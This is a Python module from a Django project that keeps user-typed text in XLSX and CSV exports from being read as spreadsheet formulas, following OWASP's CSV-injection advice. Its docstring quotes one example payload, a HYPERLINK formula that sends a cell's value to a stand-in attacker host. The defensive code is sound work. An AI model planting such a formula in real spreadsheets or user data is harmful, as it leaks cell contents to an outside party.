"""Writing user-typed text into spreadsheets without it turning into formulas.

A partner named `=HYPERLINK("http://evil.example/?d="&A1,"Klik")` must reach a reader's Excel as
that text, not as a live link that sends other cells away. openpyxl makes every string that starts
with "=" a formula cell, so every XLSX export writes its rows through `append_row()`, which stores
each text as a string cell; text that a spreadsheet program would read as a formula when typed or
pasted (OWASP "CSV injection": = + - @ tab CR) also gets Excel's quote prefix, so editing the cell
keeps it text. A CSV export writes each value through `csv_value()`, which prefixes such text with
a single quote as OWASP recommends (a CSV has no cell types).
"""

from __future__ import annotations

import datetime
from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Date cells read as the site writes dates (bapas/formats): 02-12-2026, 02-12-2026 10:00.
DATE_NUMBER_FORMAT = "dd-mm-yyyy"
DATETIME_NUMBER_FORMAT = "dd-mm-yyyy hh:mm"


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append one row to `sheet`; every text value becomes a string cell, never a formula."""
    values = [str(v) if isinstance(v, Promise) else v for v in values]
    sheet.append(values)
    (cells,) = sheet.iter_rows(min_row=sheet.max_row, max_row=sheet.max_row)
    for cell, value in zip(cells, values, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl guessed "f" for "=…"; the value itself is unchanged
            if value.startswith(FORMULA_TRIGGERS):
                cell.quotePrefix = True
        elif isinstance(value, datetime.datetime):
            cell.number_format = DATETIME_NUMBER_FORMAT
        elif isinstance(value, datetime.date):
            cell.number_format = DATE_NUMBER_FORMAT


def csv_value(value: Any) -> Any:
    """A value for a CSV writer: text a spreadsheet would run as a formula gets a leading quote."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
